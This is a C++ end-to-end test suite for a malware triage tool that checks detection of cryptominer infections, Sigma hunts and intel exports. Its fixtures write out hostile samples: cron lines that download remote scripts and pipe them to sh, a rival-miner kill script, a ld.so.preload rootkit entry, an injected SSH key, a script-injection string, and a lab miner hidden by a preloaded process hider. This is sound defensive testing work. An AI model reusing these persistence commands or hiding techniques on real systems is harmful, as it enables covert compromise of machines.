// End-to-end scenarios through the real binary, one per promise the README makes.
#include <fcntl.h>
#include <signal.h>
#include <unistd.h>

#include <chrono>
#include <cstring>
#include <filesystem>
#include <iostream>
#include <map>
#include <set>
#include <thread>

#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <linux/fs.h>
#include <netinet/in.h>
#include <nlohmann/json.hpp>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/wait.h>

#include "casedb/case_db.h"
#include "core/hash.h"
#include "support/evtx_writer.h"
#include "support/fake_proc.h"
#include "support/pcap_writer.h"
#include "support/regf_writer.h"
#include "support/test_support.h"

namespace msw {
namespace {
namespace fs = std::filesystem;

test::RunResult ms(std::vector<std::string> args, const fs::path& cwd = {}) {
  args.insert(args.begin(), MSW_BINARY);
  return test::run(args, cwd);
}

// The foundation issue's acceptance scenario: a hosts file with <script> in a comment and three redirected
// domains gives exactly one finding naming all three, and the HTML shows the script as text.
TEST(EndToEnd, HostileHostsFileGivesOneFindingAndInertHtml) {
  test::TempDir dir;
  test::write_file(dir / "victim/Windows/System32/drivers/etc/hosts",
                   "# <script>alert(1)</script>\r\n"
                   "127.0.0.1 localhost\r\n"
                   "203.0.113.7 www.baidu.com # <script>alert(1)</script>\r\n"
                   "198.51.100.9 login.live.com\r\n"
                   "45.77.10.9 api.github.com\r\n");
  auto case_path = (dir / "case.sqlite").string();
  auto scan = ms({"scan", "--quiet", "--case", case_path, (dir / "victim").string()});
  EXPECT_EQ(scan.exit_code, 1) << scan.err;  // findings

  auto json = ms({"report", case_path, "--format", "json"});
  ASSERT_EQ(json.exit_code, 0) << json.err;
  auto j = nlohmann::json::parse(json.out);
  ASSERT_EQ(j["findings"].size(), 1u);
  std::string desc = j["findings"][0]["description_en"];
  for (auto name : {"www.baidu.com", "login.live.com", "api.github.com"})
    EXPECT_NE(desc.find(name), std::string::npos) << name;
  EXPECT_EQ(j["findings"][0]["evidence"].size(), 3u);

  auto html_path = (dir / "r.html").string();
  auto html = ms({"report", case_path, "--format", "html", "--out", html_path});
  ASSERT_EQ(html.exit_code, 0);
  std::string page = test::read_file(html_path);
  EXPECT_EQ(page.find("<script"), std::string::npos);                                // not markup...
  EXPECT_NE(page.find("&lt;script&gt;alert(1)&lt;/script&gt;"), std::string::npos);  // ...but visible text
  EXPECT_NE(page.find("www.baidu.com"), std::string::npos);
}

TEST(EndToEnd, ScriptInAnEntryLineIsShownAsText) {
  test::TempDir dir;
  test::write_file(dir / "ev/etc/hosts", "1.2.3.4 www.example.com # <script>alert(1)</script>\n");
  auto case_path = (dir / "case.sqlite").string();
  ASSERT_EQ(ms({"scan", "--quiet", "--case", case_path, (dir / "ev").string()}).exit_code, 1);
  auto html = ms({"report", case_path});
  ASSERT_EQ(html.exit_code, 0);
  EXPECT_EQ(html.out.find("<script"), std::string::npos);
  EXPECT_NE(html.out.find("&lt;script&gt;alert(1)&lt;/script&gt;"), std::string::npos);
}

TEST(EndToEnd, TriageOfARootWritesBundleCaseAndReports) {
  test::TempDir dir;
  fs::path root = dir / "root";
  test::write_file(root / "etc/hosts", "127.0.0.1 localhost\n0.0.0.0 pool.supportxmr.com\n");
  test::write_file(root / "etc/hostname", "miner-victim\n");
  fs::create_directories(root / "run/systemd/resolve");
  test::write_file(root / "run/systemd/resolve/stub-resolv.conf", "nameserver 127.0.0.53\n");
  fs::create_symlink("/run/systemd/resolve/stub-resolv.conf", root / "etc/resolv.conf");
  fs::path out = dir / "out";
  auto r = ms({"triage", "--json", "--zip", "--root", root.string(), "--out", out.string()});
  ASSERT_EQ(r.exit_code, 1) << r.err;
  auto summary = nlohmann::json::parse(r.out);
  EXPECT_EQ(summary["subject_host"], "miner-victim");
  EXPECT_EQ(summary["worst"], "high");
  // hosts, resolv.conf and the system and file tables; a root without /proc has no process tables
  EXPECT_EQ(summary["files"], 4);
  EXPECT_TRUE(fs::exists(out / "bundle/manifest.json"));
  EXPECT_TRUE(test::read_file(out / "bundle.zip").starts_with("PK\x03\x04"));
  EXPECT_EQ(test::read_file(out / "bundle/etc/resolv.conf"), "nameserver 127.0.0.53\n");  // link resolved in root
  EXPECT_TRUE(fs::exists(out / "report.html"));
  auto report = nlohmann::json::parse(test::read_file(out / "report.json"));
  EXPECT_EQ(report["case"]["status"], "complete");
  EXPECT_EQ(report["findings"][0]["rule_id"], "heuristic.hosts_tampering");
  // The root is evidence: nothing in it changed.
  EXPECT_EQ(test::read_file(root / "etc/hosts"), "127.0.0.1 localhost\n0.0.0.0 pool.supportxmr.com\n");

  auto again = ms({"triage", "--quiet", "--root", root.string(), "--out", out.string()});
  EXPECT_EQ(again.exit_code, 2);  // refuses to write into a used folder
  EXPECT_NE(again.err.find("not empty"), std::string::npos);
}

TEST(EndToEnd, TriageFindsTheMinerProcessAndItsPoolConnection) {
  test::TempDir dir;
  fs::path root = dir / "root";
  test::make_fake_proc(root);
  test::write_file(root / "etc/hosts", "127.0.0.1 localhost\n");
  auto r = ms({"triage", "--json", "--root", root.string(), "--out", (dir / "out").string()});
  ASSERT_EQ(r.exit_code, 1) << r.err;
  auto report = nlohmann::json::parse(test::read_file(dir / "out/report.json"));
  std::map<std::string, nlohmann::json> by_rule;
  for (const auto& f : report["findings"]) by_rule[f["rule_id"]] = f;
  ASSERT_TRUE(by_rule.count("heuristic.miner_process")) << report["findings"].dump();
  const auto& miner = by_rule["heuristic.miner_process"];
  EXPECT_EQ(miner["severity"], "critical");  // stratum URL + wallet + deleted executable in /tmp
  EXPECT_NE(miner["title_en"].get<std::string>().find("PID 4242"), std::string::npos);
  ASSERT_TRUE(by_rule.count("heuristic.pool_port_connection"));
  EXPECT_NE(by_rule["heuristic.pool_port_connection"]["description_en"].get<std::string>().find("127.0.0.1:3333"),
            std::string::npos);
  EXPECT_EQ(report["plan"][0]["kind"], "kill_process");  // stop what runs first
}

// The lab: a real process named like Kinsing's miner, started from a temporary folder, speaking stratum to a fake
// pool on 127.0.0.1:3333 and deleting its own executable; and a fixture root with the rest of the infection (a cron
// line that fetches and pipes to sh and restarts the miner, an ld.so.preload library, a freshly injected SSH key, a
// resolv.conf locked with chattr where the file system allows it, and an auth.log with 300 failed passwords from one
// address followed by an accepted one). `triage --root FIXTURE --proc /proc` reads the fixture's files with the live
// process table, so minesweep must find each piece and link the miner to its connection, its deleted executable and
// the cron entry. minesweep itself runs with a readdir() hook preloaded that hides the miner, as mining rootkits do.
TEST(EndToEnd, LabInfectionIsFoundAndLinked) {
  test::TempDir dir;
  int pool = ::socket(AF_INET, SOCK_STREAM, 0);
  int one = 1;
  ::setsockopt(pool, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(3333);
  bool pool_port = ::bind(pool, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0;
  if (!pool_port) {  // 3333 taken on this machine: any port still tests the process side
    addr.sin_port = 0;
    ASSERT_EQ(::bind(pool, reinterpret_cast<sockaddr*>(&addr), sizeof addr), 0);
  }
  ASSERT_EQ(::listen(pool, 1), 0);
  socklen_t len = sizeof addr;
  ::getsockname(pool, reinterpret_cast<sockaddr*>(&addr), &len);
  const std::string port = std::to_string(ntohs(addr.sin_port));

  // The fixture root.
  const fs::path root = dir / "root";
  const fs::path drop = dir / "drop";
  const fs::path miner = drop / "kdevtmpfsi";
  test::write_file(root / "etc/hosts", "127.0.0.1 localhost\n");
  test::write_file(root / "etc/hostname", "lab-victim\n");
  test::write_file(root / "etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
  test::write_file(root / "var/spool/cron/crontabs/root",
                   "*/10 * * * * pgrep -x kdevtmpfsi || (curl -fsSL http://203.0.113.9/d.sh || wget -q -O- "
                   "http://203.0.113.9/d.sh) | sh\n");
  test::write_file(root / "etc/ld.so.preload", "/usr/local/lib/libsystem.so\n");
  test::write_file(root / "root/.ssh/authorized_keys",
                   "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7vbqajDhA admin@laptop\n"
                   "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAACAQDJ5hZ4 root@kinsing\n");
  test::write_file(root / "etc/resolv.conf", "nameserver 8.8.8.8\nnameserver 223.5.5.5\n");
  // What the dropper left: its script (rivals killed first, as Kinsing's d.sh does) and an XMRig configuration.
  test::write_file(root / "tmp/d.sh",
                   "#!/bin/sh\nps aux | grep -v grep | grep xmrig | awk '{print $2}' | xargs kill -9\n"
                   "pkill -f kinsing\n");
  fs::permissions(root / "tmp/d.sh", fs::perms::owner_all);
  test::write_file(root / "tmp/.ICE-unix/.x/config.json",
                   std::string(R"({"pools":[{"url":"pool.supportxmr.com:3333","user":")") +
                       std::string(test::kFakeMinerWallet) + R"(","pass":"x"}]})");
  std::string auth;
  for (int i = 0; i < 300; ++i)
    auth += "Nov 20 03:" + std::string(i / 60 < 10 ? "0" : "") + std::to_string(i / 60) + ":" +
            (i % 60 < 10 ? "0" : "") + std::to_string(i % 60) + " lab-victim sshd[" + std::to_string(4000 + i) +
            "]: Failed password for root from 198.51.100.77 port " + std::to_string(40000 + i) + " ssh2\n";
  auth += "Nov 20 03:06:00 lab-victim sshd[4400]: Accepted password for root from 198.51.100.77 port 41000 ssh2\n";
  test::write_file(root / "var/log/auth.log", auth);
  // chattr +i needs CAP_LINUX_IMMUTABLE and a file system with inode flags; without them the check is skipped.
  bool locked = false;
  {
    int fd = ::open((root / "etc/resolv.conf").c_str(), O_RDONLY);
    int flags = 0;
    if (fd >= 0 && ::ioctl(fd, FS_IOC_GETFLAGS, &flags) == 0) {
      flags |= FS_IMMUTABLE_FL;
      locked = ::ioctl(fd, FS_IOC_SETFLAGS, &flags) == 0;
    }
    if (fd >= 0) ::close(fd);
  }
  auto unlock = [&] {
    if (!locked) return;
    int fd = ::open((root / "etc/resolv.conf").c_str(), O_RDONLY);
    int flags = 0;
    if (fd >= 0 && ::ioctl(fd, FS_IOC_GETFLAGS, &flags) == 0) {
      flags &= ~FS_IMMUTABLE_FL;
      ::ioctl(fd, FS_IOC_SETFLAGS, &flags);
    }
    if (fd >= 0) ::close(fd);
  };

  fs::create_directories(drop);
  fs::copy_file(MSW_FAKE_MINER, miner);
  fs::permissions(miner, fs::perms::owner_all);
  int out_pipe[2];
  ASSERT_EQ(::pipe(out_pipe), 0);
  pid_t pid = ::fork();
  ASSERT_GE(pid, 0);
  if (pid == 0) {
    ::dup2(out_pipe[1], 1);
    ::execl(miner.c_str(), miner.c_str(), port.c_str(), "-o", ("stratum+tcp://127.0.0.1:" + port).c_str(), "-u",
            std::string(test::kFakeMinerWallet).c_str(), "--donate-level", "1", nullptr);
    ::_exit(127);
  }
  ::close(out_pipe[1]);
  int conn = ::accept(pool, nullptr, nullptr);
  ASSERT_GE(conn, 0);
  char login[512] = {};
  ASSERT_GT(::read(conn, login, sizeof login - 1), 0);
  EXPECT_NE(std::string(login).find("\"method\":\"login\""), std::string::npos);  // it speaks stratum
  char ready[8] = {};
  ASSERT_GT(::read(out_pipe[0], ready, sizeof ready - 1), 0);  // executable deleted by now
  EXPECT_FALSE(fs::exists(miner));

  // minesweep runs with the stand-in rootkit preloaded, hiding the miner's pid from readdir() as libprocesshider does.
  const std::string asan_options = std::getenv("ASAN_OPTIONS") ? std::getenv("ASAN_OPTIONS") : "";
  ::setenv("LD_PRELOAD", MSW_PROCESS_HIDER, 1);
  ::setenv("MSW_HIDE_PID", std::to_string(pid).c_str(), 1);
  ::setenv("ASAN_OPTIONS", (asan_options + ":verify_asan_link_order=0").c_str(), 1);
  auto r = ms({"triage", "--root", root.string(), "--proc", "/proc", "--out", (dir / "out").string()});
  ::unsetenv("LD_PRELOAD");
  ::unsetenv("MSW_HIDE_PID");
  ::setenv("ASAN_OPTIONS", asan_options.c_str(), 1);
  ::kill(pid, SIGKILL);
  ::waitpid(pid, nullptr, 0);
  ::close(conn);
  ::close(pool);
  ::close(out_pipe[0]);
  unlock();
  ASSERT_EQ(r.exit_code, 1) << r.err;
  auto report = nlohmann::json::parse(test::read_file(dir / "out/report.json"));
  std::map<std::string, std::vector<nlohmann::json>> rules;
  for (const auto& f : report["findings"]) rules[f["rule_id"].get<std::string>()].push_back(f);
  const std::string pid_text = "PID " + std::to_string(pid);

  bool found_process = false;
  for (const auto& f : rules["heuristic.miner_process"])
    if (f["title_en"].get<std::string>().find(pid_text) != std::string::npos) {
      found_process = true;
      EXPECT_EQ(f["severity"], "critical") << f.dump();
    }
  EXPECT_TRUE(found_process) << report["findings"].dump();
  ASSERT_EQ(rules["heuristic.hidden_process"].size(), 1u) << report["findings"].dump();
  EXPECT_NE(rules["heuristic.hidden_process"][0]["title_en"].get<std::string>().find(pid_text), std::string::npos);
  EXPECT_EQ(rules["heuristic.hidden_process"][0]["severity"], "critical");
  if (pool_port) {
    EXPECT_EQ(rules["heuristic.pool_port_connection"].size(), 1u);
  }
  EXPECT_EQ(rules["heuristic.cron_download_exec"].size(), 1u);
  EXPECT_EQ(rules["heuristic.ld_so_preload"].size(), 1u);
  EXPECT_EQ(rules["heuristic.recent_authorized_keys"].size(), 1u);
  EXPECT_EQ(rules["heuristic.competitor_killing"].size(), 1u) << report["findings"].dump();
  EXPECT_EQ(rules["heuristic.miner_config"].size(), 1u);
  ASSERT_EQ(rules["heuristic.brute_force_then_logon"].size(), 1u);
  EXPECT_EQ(rules["heuristic.brute_force_then_logon"][0]["severity"], "critical");
  EXPECT_NE(rules["heuristic.brute_force_then_logon"][0]["title_en"].get<std::string>().find("198.51.100.77"),
            std::string::npos);
  if (locked) {
    EXPECT_EQ(rules["heuristic.locked_config_file"].size(), 1u) << report["findings"].dump();
  } else {
    std::cerr << "note: chattr +i not permitted here; the immutable resolv.conf check was skipped\n";
  }

  // The storyline links the miner to its deleted executable, its pool connection and the cron entry.
  const auto& story = report["storyline"];
  std::map<std::string, std::vector<std::string>> steps;
  for (const auto& st : story["steps"])
    if (st["linked"].get<bool>()) steps[st["kind"].get<std::string>()].push_back(st["text_en"].get<std::string>());
  ASSERT_EQ(steps["miner"].size(), 1u) << story.dump();
  EXPECT_NE(steps["miner"][0].find(pid_text), std::string::npos);
  ASSERT_EQ(steps["executable"].size(), 1u);
  EXPECT_NE(steps["executable"][0].find("deleted"), std::string::npos);
  EXPECT_NE(steps["executable"][0].find("kdevtmpfsi"), std::string::npos);
  if (pool_port) {
    ASSERT_EQ(steps["connection"].size(), 1u);
    EXPECT_NE(steps["connection"][0].find("127.0.0.1:" + port), std::string::npos);
  }
  ASSERT_GE(steps["persistence"].size(), 1u) << story.dump();
  EXPECT_NE(steps["persistence"][0].find("crontabs/root"), std::string::npos);
  ASSERT_EQ(steps["entry"].size(), 1u);
  EXPECT_NE(story["summary_en"].get<std::string>().find(
                "restarted by /var/spool/cron/crontabs/root:1 (fetches http://203.0.113.9/d.sh)"),
            std::string::npos)
      << story.dump();
  // The terminal summary tells the same story.
  EXPECT_NE(r.out.find("Story:"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("Do next:"), std::string::npos) << r.out;
  // ...and the HTML report draws it: the miner process with its time, the cron entry that restarts it, the logon
  // that let the attacker in.
  const std::string html = test::read_file(dir / "out/report.html");
  const size_t svg = html.find("<svg");
  ASSERT_NE(svg, std::string::npos);
  std::string graph = html.substr(svg, html.find("</svg>", svg) - svg);
  for (size_t p = 0; (p = graph.find("&#45;", p)) != std::string::npos;) graph.replace(p, 5, "-");  // Graphviz's "-"
  for (auto want : {"Mining process", "Persistence", "Initial access", "restarts", "got in", "runs"})
    EXPECT_NE(graph.find(want), std::string::npos) << want;
  EXPECT_NE(graph.find(pid_text), std::string::npos);
  for (const auto& st : story["steps"])
    if (st["kind"] == "entry" || st["kind"] == "miner") {
      const std::string t = st["time"].get<std::string>();
      ASSERT_GE(t.size(), 19u);
      EXPECT_NE(graph.find(t.substr(0, 19) + "Z"), std::string::npos) << "the step's time in its box: " << t;
    }
}

TEST(EndToEnd, TriageFindsCronDownloaderAndPreload) {
  test::TempDir dir;
  fs::path root = dir / "root";
  test::write_file(root / "etc/hosts", "127.0.0.1 localhost\n");
  test::write_file(root / "var/spool/cron/crontabs/root",
                   "*/30 * * * * (curl -fsSL http://203.0.113.9/pm.sh||wget -q -O- http://203.0.113.9/pm.sh)|sh\n");
  test::write_file(root / "etc/cron.d/e2scrub_all",
                   "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all\n");
  test::write_file(root / "etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n");
  test::write_file(root / "root/.ssh/authorized_keys", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC root@worm\n");
  test::write_file(root / "home/deploy/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI deploy@laptop\n");
  auto r = ms({"triage", "--json", "--root", root.string(), "--out", (dir / "out").string()});
  ASSERT_EQ(r.exit_code, 1) << r.err;
  auto report = nlohmann::json::parse(test::read_file(dir / "out/report.json"));
  std::map<std::string, int> rules;
  for (const auto& f : report["findings"]) ++rules[f["rule_id"].get<std::string>()];
  EXPECT_EQ(rules["heuristic.cron_download_exec"], 1) << report["findings"].dump();
  EXPECT_EQ(rules["heuristic.ld_so_preload"], 1);
  EXPECT_EQ(rules.count("heuristic.cron_runs_from_temp"), 0u);  // the Debian e2scrub line is clean
  size_t keys = 0;
  for (const auto& a : report["artefacts"])
    if (a["kind"] == "authorized_keys") keys += a["events"].get<size_t>();
  EXPECT_EQ(keys, 2u);
}

TEST(EndToEnd, LiveTriageRunsAndIsReadOnly) {
  test::TempDir dir;
  auto r = ms({"triage", "--json", "--out", (dir / "out").string()});
  ASSERT_TRUE(r.exit_code == 0 || r.exit_code == 1) << r.err;
  auto summary = nlohmann::json::parse(r.out);
  EXPECT_GE(summary["files"].get<int>(), 1);
  EXPECT_TRUE(fs::exists(dir / "out/report.html"));
  // The machine running the tests is clean: nothing high or critical may be reported on it — except about the
  // fixtures other tests are writing into their own temporary folders at the same moment (msw-test-*).
  auto db = casedb::CaseDb::open(summary["case"].get<std::string>(), true);
  ASSERT_TRUE(db);
  auto findings = db->findings();
  ASSERT_TRUE(findings);
  for (const auto& stored : *findings) {
    const auto& f = stored.finding;
    if (f.severity < model::Severity::High) continue;
    bool fixture = f.title_en.find("/msw-test-") != std::string::npos;
    for (const auto& e : f.evidence) fixture = fixture || e.path.find("/msw-test-") != std::string::npos;
    EXPECT_TRUE(fixture) << f.rule_id << ": " << f.title_en;
  }
}

TEST(EndToEnd, ExitCodesFollowFindings) {
  test::TempDir dir;
  test::write_file(dir / "clean/etc/hosts", "127.0.0.1 localhost\n");
  EXPECT_EQ(ms({"scan", "--quiet", "--case", (dir / "a.sqlite").string(), (dir / "clean").string()}).exit_code, 0);
  test::write_file(dir / "adblock/etc/hosts", "0.0.0.0 ads.example.com\n");  // informational only
  EXPECT_EQ(ms({"scan", "--quiet", "--case", (dir / "b.sqlite").string(), (dir / "adblock").string()}).exit_code, 0);
  auto exists = ms({"scan", "--quiet", "--case", (dir / "a.sqlite").string(), (dir / "clean").string()});
  EXPECT_EQ(exists.exit_code, 2);  // never overwrites a case
}

TEST(EndToEnd, EventLogsAreDumpedAndScanned) {
  test::TempDir dir;
  std::vector<test::EvtxEvent> events;
  for (int i = 0; i < 500; ++i) {
    test::EvtxEvent e;
    e.event_id = 4625;
    e.data = {{"TargetUserName", "backup"}, {"IpAddress", "10.33.15.77"}, {"SubStatus", "0xc0000071"}};
    events.push_back(e);
  }
  auto file = test::write_evtx(events);
  // Collected logs are often renamed; the type comes from the bytes.
  test::write_file(dir / "ev/logs/sec-copy.bin", file.bytes);
  auto dump = ms({"evtx", "dump", "--quiet", "--threads", "2", (dir / "ev/logs/sec-copy.bin").string()});
  ASSERT_EQ(dump.exit_code, 0) << dump.err;
  size_t lines = 0, pos = 0;
  uint64_t last_id = 0;
  while ((pos = dump.out.find('\n', pos)) != std::string::npos) {
    size_t start = dump.out.rfind('\n', pos - 1);
    auto j = nlohmann::json::parse(dump.out.substr(start == std::string::npos ? 0 : start + 1, pos - start));
    EXPECT_GT(j["record_id"].get<uint64_t>(), last_id);  // ordered across chunks and threads
    last_id = j["record_id"];
    ++lines;
    ++pos;
  }
  EXPECT_EQ(lines, 500u);
  EXPECT_EQ(last_id, 500u);
  auto info = ms({"evtx", "info", (dir / "ev/logs/sec-copy.bin").string()});
  EXPECT_EQ(info.exit_code, 0);
  EXPECT_NE(info.out.find("records:           500"), std::string::npos) << info.out;
  auto xml = ms({"evtx", "dump", "--quiet", "--format", "xml", (dir / "ev/logs/sec-copy.bin").string()});
  EXPECT_NE(xml.out.find("<Data Name=\"IpAddress\">10.33.15.77</Data>"), std::string::npos);

  auto scan = ms({"scan", "--json", "--quiet", "--case", (dir / "c.sqlite").string(), (dir / "ev").string()});
  auto s = nlohmann::json::parse(scan.out);
  EXPECT_EQ(s["events"], 500);
  EXPECT_EQ(s["parsed"], 1);
  EXPECT_EQ(ms({"evtx", "dump", "--quiet", (dir / "missing.evtx").string()}).exit_code, 2);
}

// SIGKILL in the middle of a scan leaves a case that opens and says it is incomplete.
TEST(EndToEnd, KilledScanLeavesACaseThatOpens) {
  test::TempDir dir;
  // A large hosts file of internal names: slow enough to be caught mid-write, and no findings to speak of.
  std::string big;
  big.reserve(40u << 20);
  for (int i = 0; i < 1'200'000; ++i)
    big += "10.0.0." + std::to_string(i % 250 + 1) + " host" + std::to_string(i) + ".corp\n";
  test::write_file(dir / "ev/etc/hosts", big);
  big.clear();
  fs::path case_path = dir / "case.sqlite";

  pid_t pid = ::fork();
  ASSERT_GE(pid, 0);
  if (pid == 0) {
    int null = ::open("/dev/null", O_WRONLY);
    ::dup2(null, 1);
    ::dup2(null, 2);
    ::execl(MSW_BINARY, MSW_BINARY, "scan", "--quiet", "--case", case_path.c_str(), (dir / "ev").c_str(), nullptr);
    ::_exit(127);
  }
  // Wait until events are being written (the WAL grows past a few batches), then kill.
  fs::path wal = case_path.string() + "-wal";
  for (int i = 0; i < 6000; ++i) {
    std::error_code ec;
    if (fs::exists(wal, ec) && fs::file_size(wal, ec) > (4u << 20)) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(5));
  }
  ::kill(pid, SIGKILL);
  int status = 0;
  ::waitpid(pid, &status, 0);
  ASSERT_TRUE(WIFSIGNALED(status)) << "scan finished before it could be killed; make the input larger";

  auto db = casedb::CaseDb::open(case_path.string(), true);
  ASSERT_TRUE(db) << db.error().message;
  EXPECT_EQ(db->meta()->status, casedb::CaseStatus::Incomplete);
  EXPECT_TRUE(db->event_count());
  auto report = ms({"report", case_path.string(), "--format", "md"});
  EXPECT_EQ(report.exit_code, 0);
  EXPECT_NE(report.out.find("incomplete"), std::string::npos);
}

// intel end to end: a feed imported into a store, a scan that matches it, and the case's indicators exported as STIX
// and imported again.
TEST(EndToEnd, IntelImportMatchExportRoundTrip) {
  test::TempDir dir;
  const std::string store = (dir / "intel.sqlite").string();
  test::write_file(dir / "feed/kinsing.csv",
                   "indicator,type,family\n45.9.148.99,ip,kinsing_h2miner\nbad[.]example,domain,x\n"
                   "junk value,ip,x\n");
  auto imp = ms({"intel", "import", "--json", "--intel", store, (dir / "feed").string()});
  ASSERT_EQ(imp.exit_code, 0) << imp.err;
  auto j = nlohmann::json::parse(imp.out);
  EXPECT_EQ(j["accepted"], 2);
  EXPECT_EQ(j["rejected"], 1);
  EXPECT_EQ(j["rejections"][0]["line"], 4);
  auto again = nlohmann::json::parse(ms({"intel", "import", "--json", "--intel", store, (dir / "feed").string()}).out);
  EXPECT_EQ(again["new"], 0);  // idempotent

  auto look = ms({"intel", "lookup", "--intel", store, "45.9.148.99", "js.1226bye.xyz", "unknown.example"});
  EXPECT_EQ(look.exit_code, 1);                                                      // something is known
  EXPECT_NE(look.out.find("MyKings"), std::string::npos);                            // from the built-in knowledge base
  EXPECT_NE(look.out.find("45.9.148.99 — Kinsing"), std::string::npos) << look.out;  // the feed named the KB family
  EXPECT_NE(look.out.find("unknown.example: not known"), std::string::npos);

  // A bundle-like folder with a cron line that fetches from the feed's address.
  test::write_file(dir / "ev/var/spool/cron/crontabs/root", "* * * * * curl -fsSL http://45.9.148.99/k.sh | sh\n");
  const std::string case_path = (dir / "case.sqlite").string();
  auto scan = ms({"scan", "--quiet", "--intel", store, "--case", case_path, (dir / "ev").string()});
  ASSERT_EQ(scan.exit_code, 1) << scan.err;
  auto rep = nlohmann::json::parse(ms({"report", case_path, "--format", "json"}).out);
  bool ioc = false;
  for (const auto& f : rep["findings"])
    ioc = ioc || (f["rule_id"] == "ioc.known_indicator" &&
                  f["description_en"].get<std::string>().find("45.9.148.99") != std::string::npos);
  EXPECT_TRUE(ioc) << rep["findings"].dump();

  auto stix = ms({"intel", "export", "--case", case_path, "--format", "stix", "--out", (dir / "out.json").string()});
  ASSERT_EQ(stix.exit_code, 0) << stix.err;
  auto bundle = nlohmann::json::parse(test::read_file(dir / "out.json"));
  EXPECT_EQ(bundle["type"], "bundle");
  const std::string store2 = (dir / "again.sqlite").string();
  auto re =
      nlohmann::json::parse(ms({"intel", "import", "--json", "--intel", store2, (dir / "out.json").string()}).out);
  EXPECT_EQ(re["rejected"], 0);
  EXPECT_EQ(re["accepted"].get<size_t>(), bundle["objects"].size());
  EXPECT_NE(ms({"intel", "lookup", "--intel", store2, "45.9.148.99"}).out.find("1 match"), std::string::npos);
}

// A MyKings-like hosts file blocks security vendors and a rival's pool and pins the worm's own domain: the exports
// of the case (STIX, MISP, CSV) carry the worm's domain and address, never a victim's name or a forced resolver, and
// the blocked pool names no family.
TEST(EndToEnd, IntelExportsHoldNoVictims) {
  test::TempDir dir;
  test::write_file(dir / "ev/C/Windows/System32/drivers/etc/hosts",
                   "127.0.0.1 localhost\n127.0.0.1 www.360.cn\n127.0.0.1 update.360safe.com\n"
                   "0.0.0.0 xmr-eu1.nanopool.org\n45.77.10.9 js.mys2016.info\n");
  const std::string case_path = (dir / "case.sqlite").string();
  auto scan = ms({"scan", "--quiet", "--case", case_path, (dir / "ev").string()});
  ASSERT_EQ(scan.exit_code, 1) << scan.err;
  for (const char* format : {"stix", "misp", "csv"}) {
    const auto out = (dir / (std::string("iocs.") + format)).string();
    auto exported = ms({"intel", "export", "--case", case_path, "--format", format, "--out", out});
    ASSERT_EQ(exported.exit_code, 0) << exported.err;
    const std::string text = test::read_file(out);
    EXPECT_NE(text.find("js.mys2016.info"), std::string::npos) << format;
    EXPECT_NE(text.find("45.77.10.9"), std::string::npos) << format;
    for (const char* victim : {"www.360.cn", "update.360safe.com", "nanopool.org"})
      EXPECT_EQ(text.find(victim), std::string::npos) << format << " exports " << victim;
  }
  auto rep = nlohmann::json::parse(ms({"report", case_path, "--format", "json"}).out);
  for (const auto& f : rep["findings"]) EXPECT_NE(f["rule_id"], "ioc.mining_pool") << f.dump();
  // One known domain pinned in a hosts file is a network indicator alone: the family stays unknown.
  EXPECT_EQ(rep["summary"]["family"], "");
}

// Sigma end to end: the built-in rules and a user's rule folder run by `evtx hunt` and inside `scan`.
TEST(EndToEnd, SigmaHuntAndScan) {
  test::TempDir dir;
  std::vector<test::EvtxEvent> events(3);
  events[0].event_id = 1102;  // audit log cleared (built-in rule)
  events[1].event_id = 4688;
  events[1].data = {{"NewProcessName", "C:\\Users\\Public\\svchost.exe"},
                    {"CommandLine", "svchost.exe -o stratum+tcp://pool.example:3333 --donate-level 1"}};
  events[2].event_id = 4624;
  events[2].data = {{"TargetUserName", "backup"}, {"LogonType", "3"}};
  test::write_file(dir / "logs/Security.evtx", test::write_evtx(events).bytes);
  test::write_file(dir / "rules/backup_logon.yml", R"(title: Network Logon By Backup Account
id: 11111111-2222-3333-4444-555555555555
logsource: {product: windows, service: security}
detection:
  sel: {EventID: 4624, TargetUserName: backup, LogonType: 3}
  condition: sel
level: medium
)");
  auto hunt =
      ms({"evtx", "hunt", "--json", "--sigma", (dir / "rules").string(), (dir / "logs/Security.evtx").string()});
  ASSERT_EQ(hunt.exit_code, 1) << hunt.err;
  EXPECT_NE(hunt.out.find("The Security log was cleared by"), std::string::npos) << hunt.out;
  EXPECT_NE(hunt.out.find("Crypto Miner Command Line"), std::string::npos);  // 4688 under Sigma's field names
  EXPECT_NE(hunt.out.find("Network Logon By Backup Account"), std::string::npos);
  auto high = ms({"evtx", "hunt", "--min-level", "high", "--sigma", (dir / "rules").string(),
                  (dir / "logs/Security.evtx").string()});
  EXPECT_EQ(high.out.find("Backup Account"), std::string::npos);
  const std::string case_path = (dir / "case.sqlite").string();
  auto scan =
      ms({"scan", "--quiet", "--sigma", (dir / "rules").string(), "--case", case_path, (dir / "logs").string()});
  ASSERT_EQ(scan.exit_code, 1) << scan.err;
  auto rep = nlohmann::json::parse(ms({"report", case_path, "--format", "json"}).out);
  std::set<std::string> sigma_rules, heuristic_rules;
  for (const auto& f : rep["findings"])
    (f["engine"] == "sigma" ? sigma_rules : heuristic_rules).insert(f["rule_id"].get<std::string>());
  EXPECT_EQ(sigma_rules.size(), 2u) << rep["findings"].dump();  // the miner command line and the user's rule
  EXPECT_EQ(heuristic_rules.count("heuristic.event_log_cleared"), 1u) << rep["findings"].dump();
}

// Workers finish files in whatever order the machine gives them; the case must not show it. Twelve logs (each with
// findings) and damaged copies (each with diagnostics), scanned three times on two threads, give the same report.
TEST(EndToEnd, TheSameEvidenceGivesTheSameCase) {
  test::TempDir dir;
  for (int i = 0; i < 12; ++i) {
    std::vector<test::EvtxEvent> events(2 + i * 40);
    events[0].event_id = 1102;
    events[0].computer = "HOST" + std::to_string(i);
    events[1].event_id = 4688;
